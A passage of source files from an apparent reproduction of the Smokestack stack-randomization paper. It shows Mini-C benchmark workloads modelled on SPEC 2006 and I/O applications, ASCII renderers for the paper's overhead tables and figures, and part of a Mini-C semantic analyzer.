                                seed + i + 1);
        g_piece[square] = saved;
        if (value > alpha) {
            alpha = value;
        }
        if (alpha >= beta) {
            return alpha;
        }
    }
    return alpha;
}

int main() {
    long checksum = 0;
    guest_srand(3);
    for (int i = 0; i < 64; i++) {
        g_piece[i] = guest_rand() & 15;
    }
    checksum += alphabeta(3, -100000, 100000, 0, 17);
    checksum += alphabeta(3, -100000, 100000, 1, 99);
    print_int(checksum);
    return 0;
}
""",
    arena_kb=560,
)


LIBQUANTUM = _w(
    "libquantum", "int",
    "quantum gate simulation: one tight bit-twiddling loop, no calls",
    """
long g_state[1024];

int main() {
    long checksum = 0;
    guest_srand(29);
    for (int i = 0; i < 1024; i++) {
        g_state[i] = guest_rand();
    }
    for (long gate = 0; gate < 12; gate++) {
        long mask = 1 << (gate & 9);
        for (int i = 0; i < 1024; i++) {
            long amplitude = g_state[i];
            amplitude = amplitude ^ mask;
            amplitude = (amplitude << 1) | ((amplitude >> 62) & 1);
            g_state[i] = amplitude;
        }
    }
    for (int i = 0; i < 1024; i++) {
        checksum = checksum ^ g_state[i];
    }
    print_int(checksum);
    return 0;
}
""",
    arena_kb=820,
)


H264REF = _w(
    "h264ref", "int",
    "video coder: 4x4 integer transforms plus SAD motion search",
    """
char g_frame[4096];
char g_ref[4096];

long transform_block(char *block) {
    long coeff[16];
    long total = 0;
    for (int i = 0; i < 16; i++) {
        coeff[i] = block[i];
    }
    for (int i = 0; i < 4; i++) {
        long a = coeff[i * 4 + 0] + coeff[i * 4 + 3];
        long b = coeff[i * 4 + 1] + coeff[i * 4 + 2];
        long c = coeff[i * 4 + 1] - coeff[i * 4 + 2];
        long d = coeff[i * 4 + 0] - coeff[i * 4 + 3];
        coeff[i * 4 + 0] = a + b;
        coeff[i * 4 + 1] = (d << 1) + c;
        coeff[i * 4 + 2] = a - b;
        coeff[i * 4 + 3] = d - (c << 1);
    }
    for (int i = 0; i < 16; i++) {
        total += coeff[i] * ((i & 3) + 1);
    }
    return total;
}

long sad_16(char *a, char *b) {
    long sad = 0;
    for (int i = 0; i < 16; i++) {
        long diff = a[i] - b[i];
        if (diff < 0) {
            diff = -diff;
        }
        sad += diff;
    }
    return sad;
}

int main() {
    long checksum = 0;
    guest_srand(19);
    for (int i = 0; i < 4096; i++) {
        g_frame[i] = (char)(guest_rand() & 127);
        g_ref[i] = (char)(guest_rand() & 127);
    }
    for (int mb = 0; mb < 128; mb++) {
        checksum += transform_block(g_frame + mb * 16);
        long best = 1000000;
        for (int cand = 0; cand < 4; cand++) {
            long sad = sad_16(g_frame + mb * 16,
                              g_ref + ((mb + cand * 7) & 255) * 16);
            if (sad < best) {
                best = sad;
            }
        }
        checksum += best;
    }
    print_int(checksum);
    return 0;
}
""",
    arena_kb=200,
)


OMNETPP = _w(
    "omnetpp", "int",
    "discrete event simulator: tiny functions called at very high rate",
    """
long g_queue_time[128];
long g_queue_id[128];
int g_queue_len = 0;

int queue_push(long time, long id) {
    int i = g_queue_len;
    while (i > 0 && g_queue_time[i - 1] > time) {
        g_queue_time[i] = g_queue_time[i - 1];
        g_queue_id[i] = g_queue_id[i - 1];
        i--;
    }
    g_queue_time[i] = time;
    g_queue_id[i] = id;
    g_queue_len++;
    return i;
}

long queue_pop() {
    long id = g_queue_id[0];
    g_queue_len--;
    for (int i = 0; i < g_queue_len; i++) {
        g_queue_time[i] = g_queue_time[i + 1];
        g_queue_id[i] = g_queue_id[i + 1];
    }
    return id;
}

long handle_event(long id, long now) {
    char scratch[8];
    long route = id;
    scratch[0] = (char)id;
    for (int hop = 0; hop < 30; hop++) {      /* routing table walk */
        route = (route * 2654435761) & 1023;
        route = route ^ (route >> 3);
    }
    long next = now + (route & 31) + 1;
    if (g_queue_len < 120) {
        queue_push(next, (id * 5 + 1) & 1023);
    }
    return scratch[0] + next;
}

int main() {
    long checksum = 0;
    long now = 0;
    queue_push(1, 1);
    queue_push(2, 2);
    for (int step = 0; step < 1200; step++) {
        if (g_queue_len == 0) {
            break;
        }
        long id = queue_pop();
        now++;
        checksum += handle_event(id, now);
    }
    print_int(checksum);
    return 0;
}
""",
    arena_kb=340,
)


ASTAR = _w(
    "astar", "int",
    "grid path search with open-list scans",
    """
long g_grid[1024];
long g_open[256];
long g_cost[1024];

long heuristic(long node, long goal) {
    long dx = (node & 31) - (goal & 31);
    long dy = (node >> 5) - (goal >> 5);
    if (dx < 0) { dx = -dx; }
    if (dy < 0) { dy = -dy; }
    return dx + dy;
}

long expand(long node, long goal, int *open_len) {
    long added = 0;
    long deltas[4];
    deltas[0] = 1;
    deltas[1] = -1;
    deltas[2] = 32;
    deltas[3] = -32;
    for (int d = 0; d < 4; d++) {
        long neighbor = node + deltas[d];
        if (neighbor < 0 || neighbor >= 1024) {
            continue;
        }
        if (g_grid[neighbor] != 0) {
            continue;
        }
        long new_cost = g_cost[node] + 1;
        if (g_cost[neighbor] == 0 || new_cost < g_cost[neighbor]) {
            g_cost[neighbor] = new_cost;
            if (*open_len < 256) {
                g_open[*open_len] = neighbor;
                *open_len = *open_len + 1;
                added++;
            }
        }
    }
    long best_f = 1000000;
    for (int i = 0; i < *open_len && i < 32; i++) {   /* open-list scan */
        long candidate = g_open[i];
        long dx = (candidate & 31) - (goal & 31);
        long dy = (candidate >> 5) - (goal >> 5);
        if (dx < 0) { dx = -dx; }
        if (dy < 0) { dy = -dy; }
        long f = g_cost[candidate] + dx + dy;
        if (f < best_f) {
            best_f = f;
        }
    }
    return added + (best_f & 255);
}

int main() {
    long checksum = 0;
    int open_len = 0;
    guest_srand(23);
    for (int i = 0; i < 1024; i++) {
        g_grid[i] = (guest_rand() & 7) == 0 ? 1 : 0;
        g_cost[i] = 0;
    }
    g_grid[0] = 0;
    g_open[0] = 0;
    open_len = 1;
    g_cost[0] = 1;
    for (int iter = 0; iter < 350 && open_len > 0; iter++) {
        open_len--;
        long node = g_open[open_len];
        checksum += expand(node, 1023, &open_len);
    }
    print_int(checksum);
    return 0;
}
""",
    arena_kb=640,
)


XALANCBMK = _w(
    "xalancbmk", "int",
    "XML-ish transformation: string scanning with frequent helper calls",
    """
char g_doc[2048];
char g_out[4096];
int g_out_len = 0;

int scan_chunk(char *doc, int start, int n) {
    char window[8];
    int tags = 0;
    for (int i = 0; i < 8 && start + i < n; i++) {
        char c = doc[start + i];
        window[i] = c;
        if (c == '<') {
            tags++;
        }
        if (g_out_len < 4000) {
            g_out[g_out_len] = c;
            g_out_len++;
        }
    }
    for (int i = 0; i < 8; i++) {             /* entity normalization */
        char c = window[i & 7];
        if (c >= 'A' && c <= 'Z') {
            g_out_len = g_out_len + 0;
        }
    }
    return tags;
}

long transform(char *doc, int n) {
    long tags = 0;
    for (int start = 0; start < n; start += 8) {
        tags += scan_chunk(doc, start, n);
    }
    return tags;
}

int main() {
    long checksum = 0;
    guest_srand(31);
    for (int i = 0; i < 2048; i++) {
        long r = guest_rand() & 15;
        if (r == 0) {
            g_doc[i] = '<';
        } else {
            g_doc[i] = (char)('a' + (r & 7));
        }
    }
    for (int pass = 0; pass < 3; pass++) {
        g_out_len = 0;
        checksum += transform(g_doc, 2048);
        checksum += g_out_len;
    }
    print_int(checksum);
    return 0;
}
""",
    arena_kb=420,
)


LBM = _w(
    "lbm", "fp",
    "lattice relaxation stencil over doubles: one loop, no calls",
    """
double g_cells[2048];

int main() {
    long checksum = 0;
    guest_srand(37);
    for (int i = 0; i < 2048; i++) {
        g_cells[i] = (double)(guest_rand() & 1023) / (double)64;
    }
    for (int sweep = 0; sweep < 10; sweep++) {
        for (int i = 1; i < 2047; i++) {
            double flux = (g_cells[i - 1] + g_cells[i + 1]) / (double)2;
            g_cells[i] = g_cells[i] + (flux - g_cells[i]) / (double)4;
        }
    }
    for (int i = 0; i < 2048; i++) {
        checksum += (long)(g_cells[i] * (double)1000);
    }
    print_int(checksum);
    return 0;
}
""",
    arena_kb=980,
)


SPHINX3 = _w(
    "sphinx3", "fp",
    "acoustic scoring: per-frame Gaussian dot products (double)",
    """
double g_means[512];
double g_frame[32];

double score_senone(double *frame, int senone) {
    double score = (double)0;
    for (int d = 0; d < 32; d++) {
        double diff = frame[d] - g_means[((senone * 32) + d) & 511];
        score += diff * diff;
    }
    return score;
}

int main() {
    long checksum = 0;
    guest_srand(41);
    for (int i = 0; i < 512; i++) {
        g_means[i] = (double)(guest_rand() & 255) / (double)16;
    }
    for (int frame = 0; frame < 60; frame++) {
        double best = (double)1000000;
        for (int d = 0; d < 32; d++) {
            g_frame[d] = (double)(guest_rand() & 255) / (double)16;
        }
        for (int senone = 0; senone < 12; senone++) {
            double s = score_senone(g_frame, senone);
            if (s < best) {
                best = s;
            }
        }
        checksum += (long)(best * (double)100);
    }
    print_int(checksum);
    return 0;
}
""",
    arena_kb=720,
)


PROFTPD_APP = _w(
    "proftpd", "io",
    "FTP-style command loop: handling cost dwarfed by io_wait",
    """
char g_reply[256];

int handle_command(long kind, long argument) {
    char path[64];
    char reply[128];
    long code = 200;
    path[0] = (char)('a' + (kind & 7));
    if (kind == 1) {
        code = 150 + (argument & 3);
    } else if (kind == 2) {
        code = 226;
    } else if (kind == 3) {
        code = 550;
    }
    reply[0] = (char)(code & 0x7f);
    g_reply[(kind * 13 + argument) & 255] = reply[0] + path[0];
    return (int)code;
}

int main() {
    long checksum = 0;
    guest_srand(43);
    for (int session = 0; session < 20; session++) {
        io_wait(10000);                /* accept / network latency */
        for (int cmd = 0; cmd < 12; cmd++) {
            io_wait(3600);             /* recv of one command */
            checksum += handle_command(guest_rand() & 3,
                                       guest_rand() & 31);
        }
    }
    print_int(checksum);
    return 0;
}
""",
    arena_kb=210,
)


WIRESHARK_APP = _w(
    "wireshark", "io",
    "capture dissect loop: per-packet parse between io_wait reads",
    """
long g_proto_count[16];

int dissect(char *packet, int length) {
    char header[32];
    long proto = 0;
    int consumed = 0;
    memcpy_(header, packet, 32);
    proto = header[0] & 15;
    g_proto_count[proto] += 1;
    for (int i = 1; i < 32 && i < length; i++) {
        consumed += header[i] & 7;
    }
    return consumed;
}

int main() {
    char packet[64];
    long checksum = 0;
    guest_srand(47);
    for (int frame = 0; frame < 150; frame++) {
        io_wait(2500);                 /* read one captured frame */
        for (int i = 0; i < 64; i++) {
            packet[i] = (char)(guest_rand() & 127);
        }
        checksum += dissect(packet, 64);
    }
    for (int i = 0; i < 16; i++) {
        checksum += g_proto_count[i] * i;
    }
    print_int(checksum);
    return 0;
}
""",
    arena_kb=480,
)


#: Paper Figure 3/4 order: SPEC int, SPEC fp, then the I/O applications.
WORKLOADS: Dict[str, Workload] = {
    w.name: w
    for w in [
        PERLBENCH, BZIP2, GCC, MCF, GOBMK, HMMER, SJENG, LIBQUANTUM,
        H264REF, OMNETPP, ASTAR, XALANCBMK, LBM, SPHINX3,
        PROFTPD_APP, WIRESHARK_APP,
    ]
}

SPEC_WORKLOADS = [name for name, w in WORKLOADS.items() if w.category != "io"]
IO_WORKLOADS = [name for name, w in WORKLOADS.items() if w.category == "io"]


def get_workload(name: str) -> Workload:
    try:
        return WORKLOADS[name]
    except KeyError:
        raise KeyError(
            f"unknown workload '{name}'; known: {sorted(WORKLOADS)}"
        ) from None
