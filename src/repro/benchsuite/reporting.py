"""Text renderers for the paper's tables and figures.

The originals are bar charts; a terminal reproduction renders each series
as rows of numbers plus an ASCII bar, which preserves what the figures
communicate — who is expensive, by how much, and where the outliers are.
"""

from __future__ import annotations

from typing import Dict, Iterable, List, Optional, Sequence

from repro.benchsuite.runner import SuiteResults
from repro.rng.sources import table1_rows


def _bar(value: float, scale: float = 1.0, width: int = 32) -> str:
    """Signed ASCII bar; one character per ``scale`` percent."""
    length = min(width, max(0, int(round(abs(value) / scale))))
    body = ("#" if value >= 0 else "-") * length
    return body


def render_table1(measured: Optional[Dict[str, float]] = None) -> str:
    """Table I: source of randomness vs rate (cycles/invocation).

    ``measured`` optionally carries empirically measured rates (from the
    benchmark harness) to print beside the model's nominal rates.
    """
    rows = table1_rows()
    lines = [
        "TABLE I: SOURCE OF RANDOMNESS",
        f"{'source':<10}{'Security':<10}{'Rate (cycles/invocation)':>26}"
        + ("" + f"{'measured':>12}" if measured else ""),
    ]
    for name, row in rows.items():
        line = f"{name:<10}{row['security']:<10}{row['cycles']:>26.1f}"
        if measured:
            line += f"{measured.get(name, float('nan')):>12.1f}"
        lines.append(line)
    return "\n".join(lines)


def render_figure3(results: SuiteResults, bar_scale: float = 2.0) -> str:
    """Figure 3: % runtime overhead per workload per randomness scheme."""
    lines = [
        "FIGURE 3: percentage performance overhead of Smokestack",
        "(positive = slowdown vs the Clang-default baseline)",
        "",
    ]
    header = f"{'workload':<12}" + "".join(
        f"{scheme:>10}" for scheme in results.schemes
    )
    lines.append(header)
    for workload in results.workloads():
        cells = "".join(
            f"{results.overhead(workload, scheme):>10.1f}"
            for scheme in results.schemes
        )
        lines.append(f"{workload:<12}{cells}")
    lines.append("")
    for scheme in results.schemes:
        average = results.average_overhead(scheme, category="spec")
        lines.append(
            f"SPEC average {scheme:>8}: {average:6.1f}%  |{_bar(average, bar_scale)}"
        )
    io_names = [
        w for w in results.workloads()
        if results.measurements[w].workload.category == "io"
    ]
    if io_names:
        worst = max(
            results.overhead(w, s) for w in io_names for s in results.schemes
        )
        lines.append(f"I/O applications worst case: {worst:.1f}%")
    return "\n".join(lines)


def render_figure4(results: SuiteResults, scheme: str = "aes-10",
                   bar_scale: float = 2.0) -> str:
    """Figure 4: % memory overhead (max RSS) per workload."""
    lines = [
        "FIGURE 4: percentage memory overhead of Smokestack (max RSS)",
        "(dominated by the read-only P-BOX added to the image)",
        "",
        f"{'workload':<12}{'mem %':>8}   {'P-BOX bytes':>12}",
    ]
    for workload in results.workloads():
        measurement = results.measurements[workload]
        if measurement.workload.category == "io":
            continue  # the paper's Figure 4 covers SPEC only
        value = results.memory_overhead(workload, scheme)
        lines.append(
            f"{workload:<12}{value:>8.1f}   {measurement.pbox_bytes:>12,}"
            f"  |{_bar(value, bar_scale)}"
        )
    return "\n".join(lines)


def render_overhead_summary(results: SuiteResults) -> str:
    """Compact paper-vs-measured summary used by EXPERIMENTS.md."""
    lines = ["scheme      measured-avg   paper-avg"]
    paper = {"pseudo": 0.9, "aes-1": 3.3, "aes-10": 10.3, "rdrand": 22.0}
    for scheme in results.schemes:
        measured = results.average_overhead(scheme, category="spec")
        expected = paper.get(scheme)
        expected_text = f"{expected:>9.1f}%" if expected is not None else "      n/a"
        lines.append(f"{scheme:<12}{measured:>10.1f}%  {expected_text}")
    return "\n".join(lines)
