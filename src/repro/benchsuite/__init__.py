"""Benchmark suite: SPEC-2006-analogue workloads, the Figure 3/4
measurement harness and text renderers for the paper's tables/figures.
"""

from repro.benchsuite.programs import (
    IO_WORKLOADS,
    SPEC_WORKLOADS,
    WORKLOADS,
    Workload,
    get_workload,
)
from repro.benchsuite.reporting import (
    render_figure3,
    render_figure4,
    render_overhead_summary,
    render_table1,
)
from repro.benchsuite.runner import (
    RunMeasurement,
    SuiteResults,
    WorkloadMeasurement,
    measure_suite,
    measure_workload,
    run_baseline,
    run_hardened,
)

__all__ = [
    "IO_WORKLOADS",
    "RunMeasurement",
    "SPEC_WORKLOADS",
    "SuiteResults",
    "WORKLOADS",
    "Workload",
    "WorkloadMeasurement",
    "get_workload",
    "measure_suite",
    "measure_workload",
    "render_figure3",
    "render_figure4",
    "render_overhead_summary",
    "render_table1",
    "run_baseline",
    "run_hardened",
]
