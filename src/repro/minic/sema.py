"""Semantic analysis for Mini-C.

The analyzer type-checks a parsed translation unit and annotates it in
place:

* every expression node receives a ``ctype``,
* every :class:`~repro.minic.astnodes.Identifier` is resolved to its
  declaration (``decl``),
* implicit conversions (usual arithmetic conversions, assignment
  conversions, argument conversions, array-to-pointer decay) are made
  explicit by inserting :class:`~repro.minic.astnodes.Cast` nodes, so the
  lowering stage never has to infer a conversion.

Errors are reported as :class:`~repro.errors.SemanticError` with source
locations.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Union

from repro.errors import SemanticError
from repro.minic import astnodes as ast
from repro.minic import types as ct
from repro.minic.builtins import BUILTINS, builtin_function_type

_ARITH_BINOPS = frozenset({"+", "-", "*", "/", "%", "&", "|", "^"})
_SHIFT_BINOPS = frozenset({"<<", ">>"})
_COMPARISONS = frozenset({"==", "!=", "<", ">", "<=", ">="})
_LOGICALS = frozenset({"&&", "||"})


class Scope:
    """A lexical scope mapping names to declarations."""

    def __init__(self, parent: Optional["Scope"] = None):
        self.parent = parent
        self._names: Dict[str, ast.Node] = {}

    def declare(self, name: str, decl: ast.Node) -> None:
        if name in self._names:
            raise SemanticError(f"redeclaration of '{name}'", decl.location)
        self._names[name] = decl

    def lookup(self, name: str) -> Optional[ast.Node]:
        scope: Optional[Scope] = self
        while scope is not None:
            if name in scope._names:
                return scope._names[name]
            scope = scope.parent
        return None


class FunctionInfo:
    """Summary of a known function: its AST node (if any) and type."""

    def __init__(self, name: str, fn_type: ct.FunctionType, node: Optional[ast.FunctionDef]):
        self.name = name
        self.fn_type = fn_type
        self.node = node


class Sema:
    """Runs semantic analysis over one translation unit."""

    def __init__(self):
        self._globals = Scope()
        self._functions: Dict[str, FunctionInfo] = {}
        self._current_function: Optional[ast.FunctionDef] = None
        self._loop_depth = 0
        # Scope used to resolve identifiers inside the expression currently
        # being checked; statement checking keeps this in sync.
        self._expr_scope: Scope = self._globals

    # -- entry point -------------------------------------------------------------

    def analyze(self, unit: ast.TranslationUnit) -> ast.TranslationUnit:
        """Type-check and annotate ``unit`` in place; returns it."""
        self._register_builtins()
        self._collect_top_level(unit)
        for decl in unit.declarations:
            if isinstance(decl, ast.FunctionDef) and decl.body is not None:
                self._check_function(decl)
        return unit

    # -- top level ---------------------------------------------------------------

    def _register_builtins(self) -> None:
        for name in BUILTINS:
            self._functions[name] = FunctionInfo(name, builtin_function_type(name), None)

    def _collect_top_level(self, unit: ast.TranslationUnit) -> None:
        for decl in unit.declarations:
            if isinstance(decl, ast.StructDef):
                continue  # struct types were completed during parsing
            if isinstance(decl, ast.FunctionDef):
                self._collect_function(decl)
            elif isinstance(decl, ast.VarDecl):
                self._collect_global(decl)
            else:
                raise SemanticError(
                    f"unsupported top-level declaration {type(decl).__name__}",
                    decl.location,
                )

    def _collect_function(self, decl: ast.FunctionDef) -> None:
        param_types = [p.declared_type for p in decl.params]
        for param in decl.params:
            if param.declared_type.is_void():
                raise SemanticError(
                    f"parameter '{param.name}' has void type", param.location
                )
            if not param.declared_type.is_complete():
                raise SemanticError(
                    f"parameter '{param.name}' has incomplete type", param.location
                )
        fn_type = ct.FunctionType(decl.return_type, param_types)
        existing = self._functions.get(decl.name)
        if existing is not None:
            if existing.node is None and decl.name in BUILTINS:
                raise SemanticError(
                    f"'{decl.name}' conflicts with a builtin function", decl.location
                )
            if existing.fn_type != fn_type:
                raise SemanticError(
                    f"conflicting declarations of function '{decl.name}'",
                    decl.location,
                )
            if existing.node is not None and existing.node.body is not None and decl.body is not None:
                raise SemanticError(
                    f"redefinition of function '{decl.name}'", decl.location
                )
            if decl.body is not None:
                existing.node = decl
            return
        self._functions[decl.name] = FunctionInfo(decl.name, fn_type, decl)

    def _collect_global(self, decl: ast.VarDecl) -> None:
        if decl.declared_type.is_void():
            raise SemanticError(f"global '{decl.name}' has void type", decl.location)
        if not decl.declared_type.is_complete():
            raise SemanticError(
                f"global '{decl.name}' has incomplete type", decl.location
            )
        if decl.initializer is not None:
            init = self._check_expr(decl.initializer)
            if decl.declared_type.is_array():
                if not (
                    isinstance(init, ast.StringLiteral)
                    and isinstance(decl.declared_type, ct.ArrayType)
                    and decl.declared_type.element == ct.CHAR
                ):
                    raise SemanticError(
                        "array initializers must be string literals for "
                        "char arrays",
                        decl.initializer.location,
                    )
                if len(init.value) + 1 > decl.declared_type.size():
                    raise SemanticError(
                        "string literal does not fit in array", init.location
                    )
                decl.initializer = init
            else:
                decl.initializer = self._convert_for_assignment(
                    init, decl.declared_type, "global initializer"
                )
        self._globals.declare(decl.name, decl)

    # -- functions and statements ---------------------------------------------------

    def _check_function(self, decl: ast.FunctionDef) -> None:
        self._current_function = decl
        scope = Scope(self._globals)
        for param in decl.params:
            scope.declare(param.name, param)
        assert decl.body is not None
        self._check_block(decl.body, scope)
        self._current_function = None

    def _check_block(self, block: ast.Block, parent_scope: Scope) -> None:
        scope = Scope(parent_scope)
        for stmt in block.statements:
            self._check_stmt(stmt, scope)

    def _check_stmt(self, stmt: ast.Stmt, scope: Scope) -> None:
        self._expr_scope = scope
        if isinstance(stmt, ast.Block):
            self._check_block(stmt, scope)
        elif isinstance(stmt, ast.DeclStmt):
            for decl in stmt.decls:
                self._check_local_decl(decl, scope)
        elif isinstance(stmt, ast.ExprStmt):
            stmt.expr = self._check_expr(stmt.expr)
        elif isinstance(stmt, ast.EmptyStmt):
            pass
        elif isinstance(stmt, ast.If):
            stmt.condition = self._check_condition(stmt.condition)
            self._check_stmt(stmt.then_branch, scope)
            if stmt.else_branch is not None:
                self._check_stmt(stmt.else_branch, scope)
        elif isinstance(stmt, ast.While):
            stmt.condition = self._check_condition(stmt.condition)
            self._in_loop(stmt.body, scope)
        elif isinstance(stmt, ast.DoWhile):
            self._in_loop(stmt.body, scope)
            self._expr_scope = scope
            stmt.condition = self._check_condition(stmt.condition)
        elif isinstance(stmt, ast.For):
            for_scope = Scope(scope)
            if stmt.init is not None:
                self._check_stmt(stmt.init, for_scope)
            self._expr_scope = for_scope
            if stmt.condition is not None:
                stmt.condition = self._check_condition(stmt.condition)
            if stmt.step is not None:
                stmt.step = self._check_expr(stmt.step)
            self._in_loop(stmt.body, for_scope)
        elif isinstance(stmt, ast.Return):
            self._check_return(stmt)
        elif isinstance(stmt, ast.Break):
            if self._loop_depth == 0:
                raise SemanticError("'break' outside of a loop", stmt.location)
        elif isinstance(stmt, ast.Continue):
            if self._loop_depth == 0:
                raise SemanticError("'continue' outside of a loop", stmt.location)
        else:
            raise SemanticError(
                f"unsupported statement {type(stmt).__name__}", stmt.location
            )

    def _in_loop(self, body: ast.Stmt, scope: Scope) -> None:
        self._loop_depth += 1
        try:
            self._check_stmt(body, scope)
        finally:
            self._loop_depth -= 1

    def _check_local_decl(self, decl: ast.VarDecl, scope: Scope) -> None:
        declared = decl.declared_type
        if declared.is_void():
            raise SemanticError(f"variable '{decl.name}' has void type", decl.location)
        if decl.vla_length is not None:
            length = self._check_expr(decl.vla_length)
            if not length.ctype.is_integer():
                raise SemanticError(
                    "variable-length array size must be an integer",
                    decl.vla_length.location,
                )
            decl.vla_length = self._convert(length, ct.LONG)
        elif not declared.is_complete():
            raise SemanticError(
                f"variable '{decl.name}' has incomplete type", decl.location
            )
        if decl.initializer is not None:
            if declared.is_array():
                init = self._check_expr(decl.initializer)
                if not (
                    isinstance(init, ast.StringLiteral)
                    and isinstance(declared, ct.ArrayType)
                    and declared.element == ct.CHAR
                ):
                    raise SemanticError(
                        "array initializers must be string literals for char arrays",
                        decl.initializer.location,
                    )
                if declared.length is not None and len(init.value) + 1 > declared.size():
                    raise SemanticError(
                        "string literal does not fit in array", init.location
                    )
                decl.initializer = init
            else:
                init = self._check_expr(decl.initializer)
                decl.initializer = self._convert_for_assignment(
                    init, declared, f"initializer of '{decl.name}'"
                )
        scope.declare(decl.name, decl)

    def _check_return(self, stmt: ast.Return) -> None:
        assert self._current_function is not None
        return_type = self._current_function.return_type
        if stmt.value is None:
            if not return_type.is_void():
                raise SemanticError(
                    "non-void function must return a value", stmt.location
                )
            return
        if return_type.is_void():
            raise SemanticError("void function cannot return a value", stmt.location)
        value = self._check_expr(stmt.value)
        stmt.value = self._convert_for_assignment(value, return_type, "return value")

    def _check_condition(self, expr: ast.Expr) -> ast.Expr:
        checked = self._rvalue(self._check_expr(expr))
        if not checked.ctype.is_scalar():
            raise SemanticError(
                f"condition must be scalar, got {checked.ctype}", expr.location
            )
        return checked

    # -- expressions ------------------------------------------------------------------

    def _check_expr(self, expr: ast.Expr) -> ast.Expr:
        method = getattr(self, f"_check_{type(expr).__name__}", None)
        if method is None:
            raise SemanticError(
                f"unsupported expression {type(expr).__name__}", expr.location
            )
        result = method(expr)
        assert result.ctype is not None, f"no type computed for {expr!r}"
        return result

    def _check_IntLiteral(self, expr: ast.IntLiteral) -> ast.Expr:
        expr.ctype = ct.INT if ct.INT.min_value() <= expr.value <= ct.INT.max_value() else ct.LONG
        return expr

    def _check_FloatLiteral(self, expr: ast.FloatLiteral) -> ast.Expr:
        expr.ctype = ct.DOUBLE
        return expr

    def _check_StringLiteral(self, expr: ast.StringLiteral) -> ast.Expr:
        expr.ctype = ct.ArrayType(ct.CHAR, len(expr.value) + 1)
        return expr

    def _check_CompoundRead(self, expr: ast.CompoundRead) -> ast.Expr:
        # ctype was assigned when the node was synthesized in _check_Assignment.
        assert expr.ctype is not None
        return expr

    def _check_Identifier(self, expr: ast.Identifier) -> ast.Expr:
        decl = self._lookup(expr)
        expr.decl = decl
        if isinstance(decl, ast.VarDecl) or isinstance(decl, ast.ParamDecl):
            expr.ctype = decl.declared_type
            return expr
        raise SemanticError(
            f"'{expr.name}' does not name a variable here", expr.location
        )

    def _lookup(self, expr: ast.Identifier) -> ast.Node:
        decl = self._current_scope_lookup(expr.name)
        if decl is None:
            raise SemanticError(f"use of undeclared name '{expr.name}'", expr.location)
        return decl

    def _current_scope_lookup(self, name: str) -> Optional[ast.Node]:
        # Expression checking always happens with a statement scope that
        # _check_stmt keeps in sync; see self._expr_scope.
        return self._expr_scope.lookup(name)

    def _check_UnaryOp(self, expr: ast.UnaryOp) -> ast.Expr:
        if expr.op == "&":
            operand = self._check_expr(expr.operand)
            self._require_lvalue(operand, "operand of '&'")
            expr.operand = operand
            expr.ctype = ct.PointerType(operand.ctype)
            return expr
        if expr.op in ("++", "--"):
            operand = self._check_expr(expr.operand)
            self._require_lvalue(operand, f"operand of '{expr.op}'")
            if not operand.ctype.is_scalar():
                raise SemanticError(
                    f"'{expr.op}' requires a scalar operand", expr.location
                )
            expr.operand = operand
            expr.ctype = operand.ctype
            return expr
        operand = self._rvalue(self._check_expr(expr.operand))
        if expr.op == "*":
            if not operand.ctype.is_pointer():
                raise SemanticError(
                    f"cannot dereference non-pointer type {operand.ctype}",
                    expr.location,
                )
            pointee = operand.ctype.pointee
            if pointee.is_void():
                raise SemanticError("cannot dereference 'void*'", expr.location)
            expr.operand = operand
            expr.ctype = pointee
            return expr
        if expr.op == "-":
            if not operand.ctype.is_arithmetic():
                raise SemanticError("unary '-' requires arithmetic type", expr.location)
            operand = self._convert(operand, ct.integer_promote(operand.ctype))
            expr.operand = operand
            expr.ctype = operand.ctype
            return expr
        if expr.op == "~":
            if not operand.ctype.is_integer():
                raise SemanticError("'~' requires an integer type", expr.location)
            operand = self._convert(operand, ct.integer_promote(operand.ctype))
            expr.operand = operand
            expr.ctype = operand.ctype
            return expr
        if expr.op == "!":
            if not operand.ctype.is_scalar():
                raise SemanticError("'!' requires a scalar type", expr.location)
            expr.operand = operand
            expr.ctype = ct.INT
            return expr
        raise SemanticError(f"unsupported unary operator '{expr.op}'", expr.location)

    def _check_PostfixOp(self, expr: ast.PostfixOp) -> ast.Expr:
        operand = self._check_expr(expr.operand)
        self._require_lvalue(operand, f"operand of '{expr.op}'")
        if not operand.ctype.is_scalar():
            raise SemanticError(f"'{expr.op}' requires a scalar operand", expr.location)
        expr.operand = operand
        expr.ctype = operand.ctype
        return expr

    def _check_BinaryOp(self, expr: ast.BinaryOp) -> ast.Expr:
        left = self._rvalue(self._check_expr(expr.left))
        right = self._rvalue(self._check_expr(expr.right))
        op = expr.op
        if op in _LOGICALS:
            for side, name in ((left, "left"), (right, "right")):
                if not side.ctype.is_scalar():
                    raise SemanticError(
                        f"{name} operand of '{op}' must be scalar", expr.location
                    )
            expr.left, expr.right = left, right
            expr.ctype = ct.INT
            return expr
        if op in _COMPARISONS:
            return self._check_comparison(expr, left, right)
        if op in _SHIFT_BINOPS:
            if not (left.ctype.is_integer() and right.ctype.is_integer()):
                raise SemanticError(f"'{op}' requires integer operands", expr.location)
            expr.left = self._convert(left, ct.integer_promote(left.ctype))
            expr.right = self._convert(right, ct.integer_promote(right.ctype))
            expr.ctype = expr.left.ctype
            return expr
        if op in ("+", "-") and (left.ctype.is_pointer() or right.ctype.is_pointer()):
            return self._check_pointer_arith(expr, left, right)
        if op in _ARITH_BINOPS:
            if op in ("%", "&", "|", "^") and not (
                left.ctype.is_integer() and right.ctype.is_integer()
            ):
                raise SemanticError(f"'{op}' requires integer operands", expr.location)
            if not (left.ctype.is_arithmetic() and right.ctype.is_arithmetic()):
                raise SemanticError(
                    f"'{op}' requires arithmetic operands, got {left.ctype} and {right.ctype}",
                    expr.location,
                )
            common = ct.common_arithmetic_type(left.ctype, right.ctype)
            expr.left = self._convert(left, common)
            expr.right = self._convert(right, common)
            expr.ctype = common
            return expr
        raise SemanticError(f"unsupported binary operator '{op}'", expr.location)

    def _check_comparison(
        self, expr: ast.BinaryOp, left: ast.Expr, right: ast.Expr
    ) -> ast.Expr:
        if left.ctype.is_arithmetic() and right.ctype.is_arithmetic():
            common = ct.common_arithmetic_type(left.ctype, right.ctype)
            expr.left = self._convert(left, common)
            expr.right = self._convert(right, common)
        elif left.ctype.is_pointer() and right.ctype.is_pointer():
            expr.left, expr.right = left, right
        elif left.ctype.is_pointer() and _is_null_constant(right):
            expr.left = left
            expr.right = self._convert(right, left.ctype)
        elif right.ctype.is_pointer() and _is_null_constant(left):
            expr.left = self._convert(left, right.ctype)
            expr.right = right
        else:
            raise SemanticError(
                f"cannot compare {left.ctype} with {right.ctype}", expr.location
            )
        expr.ctype = ct.INT
        return expr

    def _check_pointer_arith(
